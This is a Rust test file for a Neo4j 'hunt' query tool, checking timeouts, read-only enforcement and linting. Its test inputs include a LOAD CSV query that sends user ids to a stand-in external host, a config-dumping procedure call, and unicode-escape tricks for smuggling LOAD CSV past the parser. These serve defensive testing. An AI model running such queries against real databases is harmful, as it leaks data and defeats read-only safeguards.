//! A hunt whose server says nothing, and hunts that are refused before any server is asked.

use std::time::Duration;

use linktrail::hunt::{self, Group, Hunt, HuntError, Parameters};
use neo4rs::{ConfigBuilder, Graph};

use crate::run::binary;

const DATABASE: &str = "neo4j";

fn own(text: &str) -> Hunt {
    Hunt::parse("mine.cypher", Group::Own, text).unwrap()
}

#[tokio::test]
async fn a_server_that_does_not_answer_is_given_up() {
    let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = silent.local_addr().unwrap();
    let config = ConfigBuilder::default()
        .uri(format!("bolt://{address}"))
        .user("neo4j")
        .password("password")
        .build()
        .unwrap();
    let graph = Graph::connect(config).unwrap();
    let limit = Duration::from_millis(100);
    let answer = hunt::run(
        &graph,
        DATABASE,
        &own("RETURN 1 AS a"),
        &Parameters::new(),
        limit,
    )
    .await;
    let error = answer.unwrap_err();
    assert!(!error.is_usage(), "{error}");
    assert!(
        matches!(error, HuntError::TimedOut { .. } | HuntError::Neo4j { .. }),
        "{error}"
    );
}

/// What linktrail says to a file, and how it ends. `server` counts as its Neo4j.
fn ran(arguments: &[&str], text: &str, server: &str) -> (Option<i32>, String, String) {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("mine.cypher"), text).unwrap();
    let mut command = binary(folder.path());
    if !server.is_empty() {
        command
            .env("LINKTRAIL_NEO4J_URI", server)
            .env("LINKTRAIL_NEO4J_PASSWORD", "password");
    }
    let output = command.args(arguments).output().unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    let (stdout, stderr) = (text(output.stdout), text(output.stderr));
    (output.status.code(), stdout, stderr)
}

#[test]
fn a_hunt_that_does_more_than_read_is_refused_before_neo4j_is_looked_for() {
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let uri = format!("bolt://{}", server.local_addr().unwrap());
    let read_only = "does more than read the graph, so nothing was sent:";
    for (text, found) in [
        (
            "MATCH (u:User)\n  LOAD CSV FROM 'http://a.example/' + u.id AS l RETURN l",
            format!("{read_only} `LOAD CSV` (line 2, column 3)"),
        ),
        (
            "\u{feff}CALL dbms.listConfig() YIELD name RETURN name",
            format!("{read_only} `CALL dbms.listConfig` (line 1, column 1)"),
        ),
        (
            "MATCH (u:User) SET u.a = 1 RETURN apoc.text.join([], '') AS t",
            format!(
                "{read_only} `SET` (line 1, column 16), the function `apoc.text.join` (line 1, column 49)"
            ),
        ),
        ("SHOW USERS", format!("{read_only} `SHOW` (line 1, column 1)")),
        (
            r"L\u004FAD CSV FROM 'x' AS l RETURN l",
            r"line 1, column 2: `\u` starts an escape, which is allowed in a text only".to_owned(),
        ),
        (
            r"RETURN 'a\u0027 AS a LOAD CSV FROM \u0027x' AS l",
            "line 1, column 10: this escape stands for a quote, a backtick or a backslash; write `\\'`, `\\\"`, `\\\\`"
                .to_owned(),
        ),
    ] {
        // Wrong usage wherever Neo4j is, and if none is named at all.
        for uri in [uri.as_str(), "bolt://127.0.0.1:1", ""] {
            let (code, stdout, stderr) = ran(&["hunt", "run", "mine.cypher"], text, uri);
            assert_eq!((code, stdout.as_str()), (Some(2), ""), "{stderr}");
            let colon = if found.starts_with(read_only) { "" } else { ":" };
            assert_eq!(stderr, format!("error: mine.cypher{colon} {found}\n"));
        }
    }
    let connected = server.accept().map_err(|error| error.kind());
    assert_eq!(connected.unwrap_err(), std::io::ErrorKind::WouldBlock);
}

#[test]
fn a_file_of_ones_own_is_checked() {
    let good = "// name: mine\n// title: T\n// description: D.\n// returns: table\n// columns: id\n// tags: url\n\n\
        MATCH (u:Url) WHERE $case IS NULL OR $case IN u.cases RETURN u.id AS id ORDER BY id\n";
    let lint = |text: &str| ran(&["hunt", "lint", "mine.cypher"], text, "");
    let (code, stdout, stderr) = lint(good);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(stdout.starts_with("1 hunt(s), 0 finding(s)"), "{stdout}");

    let bad = good.replace("MATCH (u:Url)", "LOAD CSV FROM 'x' AS l MATCH (u:Uri)");
    let (code, stdout, _) = lint(&bad);
    assert_eq!(code, Some(1));
    assert_eq!(
        stdout.lines().take(2).collect::<Vec<_>>(),
        [
            "mine.cypher:8: read-only: `LOAD CSV`: a hunt only reads, and only the graph",
            "mine.cypher:8: schema: the graph has no label `Uri`; did you mean `Url`?",
        ]
    );
    let (code, stdout, _) = lint(&good.replace("MATCH", r"M\u0041TCH"));
    assert_eq!(code, Some(1));
    assert!(
        stdout.starts_with("mine.cypher:8: syntax: `\\u` starts an escape"),
        "{stdout}"
    );
    let (code, stdout, _) = lint(&good.replace("table", "tables"));
    assert_eq!(code, Some(1));
    assert!(stdout.starts_with("mine.cypher:4: header: "), "{stdout}");

    let (code, stdout, stderr) = ran(&["hunt", "lint", "other.cypher"], good, "");
    assert_eq!((code, stdout.as_str()), (Some(2), ""));
    assert!(
        stderr.starts_with("error: cannot read the hunt other.cypher"),
        "{stderr}"
    );
}
